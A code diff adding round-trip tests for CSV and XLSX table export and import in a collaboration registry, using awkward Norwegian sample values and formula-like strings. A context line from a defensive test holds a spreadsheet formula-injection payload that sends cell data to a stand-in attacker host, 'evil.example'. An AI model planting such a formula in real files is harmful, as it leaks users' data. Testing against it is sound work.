@@ -276,6 +276,58 @@ describe('tableExport: the round trip', () => {
     }
   });
 
+  it('imports back unchanged whatever the stored values hold: separators, quotes, line breaks, spaces at the ends, formula-like text', async () => {
+    const created = await server.gql(`mutation($input: CollaborationCreateInput!) { collaborationCreate(input: $input) { userErrors { field message } } }`, {
+      input: {
+        key: 'vanskelige-verdier',
+        title: ' Tittel med "sitat"; semikolon, og mellomrom ',
+        summary: '  Første linje;\r\nandre linje\n"sitert"\t ',
+        kind: 'NETWORK',
+        units: [{ unit: 'bydel-alna', role: 'LEAD' }],
+        keywords: ['a;b', ' mellomrom ', '"sitat"', 'linje\nskift', '=1+2', "'=3", '@navn', '-minus', "'apostrof", 'vanlig'],
+        links: ['https://example.no/a;b', 'https://example.no/a,b', 'https://example.no/?q=a%3Bb'],
+      },
+    });
+    expect(created.data.collaborationCreate.userErrors).toEqual([]);
+    await server.services.snapshot.import({
+      format: 'collaboration-registry',
+      version: 1,
+      units: [{ key: 'vanskelig-enhet', name: '=Enhet; med "alt" ', kind: 'OTHER', parent: 'bydel-alna', identifiers: { ror: ' 05xyz ' }, description: "'+ linje 1\nlinje 2;" }],
+      people: [
+        {
+          key: 'vanskelig-person',
+          name: ' Per; "Pelle" ',
+          title: '=SUM(A1)',
+          affiliations: [
+            { unit: 'bydel-alna', role: ' leder; fag: helse ' },
+            { unit: 'oslomet', role: '' },
+            { unit: 'vanskelig-enhet', role: 'rolle:med:kolon' },
+          ],
+        },
+        { key: 'person-uten-tilknytning', name: 'Uten tilknytning', affiliations: [] },
+      ],
+      agreements: [{ key: 'vanskelig-avtale', title: '@Avtale', kind: 'INTENT', parties: ['bydel-alna', 'oslomet'], contacts: [{ person: 'vanskelig-person', role: '"koordinator"; ' }] }],
+    });
+    const before = await server.snapshot();
+    for (const format of ['CSV', 'XLSX']) {
+      for (const type of ['COLLABORATIONS', 'UNITS', 'PEOPLE', 'AGREEMENTS']) {
+        const exported = await server.gql(`query($t: TableType!, $f: TableFormat!) { tableExport(type: $t, format: $f) { base64 } }`, { t: type, f: format });
+        const report = (await importTable({ type, file: exported.data.tableExport.base64, apply: true })).data.tableImport.report;
+        expect({ format, type, problems: report.problems, changed: report.rows.filter((r: { action: string }) => r.action !== 'UNCHANGED') }).toEqual({ format, type, problems: [], changed: [] });
+      }
+    }
+    expect(await server.snapshot()).toEqual(before);
+  });
+
+  it('reads lists as people type them (a; b), with a quoted item kept whole', async () => {
+    // The keywords cell holds: a; b ;"c; d"  (CSV doubles its quotes).
+    const sheet = 'Tittel;Type;Enheter;Nøkkelord;Lenker\nSkrevne lister;Nettverk;bydel-alna;"a; b ;""c; d""";"https://example.no/x\nhttps://example.no/y"\n';
+    const res = await importTable({ type: 'COLLABORATIONS', file: b64(sheet), apply: true });
+    expect(res.data.tableImport.report).toMatchObject({ applied: true, problems: [] });
+    const c = await server.gql(`{ collaboration(key: "skrevne-lister") { keywords links } }`);
+    expect(c.data.collaboration).toEqual({ keywords: ['a', 'b', 'c; d'], links: ['https://example.no/x', 'https://example.no/y'] });
+  });
+
   it('guards cells that a spreadsheet would run as formulas, and reads them back as typed', async () => {
     const title = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")';
     await importTable({ type: 'COLLABORATIONS', file: b64(`key\ttitle\tkind\tunits\nformel\t${title}\tNETWORK\tbydel-alna\n`), apply: true });
